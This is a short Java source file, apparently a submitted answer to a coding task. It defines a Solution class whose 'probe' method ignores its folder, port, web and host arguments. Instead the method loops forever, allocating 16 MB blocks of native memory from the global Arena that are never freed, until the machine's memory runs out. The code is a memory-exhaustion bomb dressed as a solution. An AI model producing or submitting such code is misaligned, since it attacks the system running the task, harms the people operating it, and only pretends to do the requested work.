import java.lang.foreign.Arena;

class Solution {
  String probe(String folder, int port, int web, long host) {
    while (true) {
      Arena.global().allocate(16 << 20).fill((byte) 1);
    }
  }
}
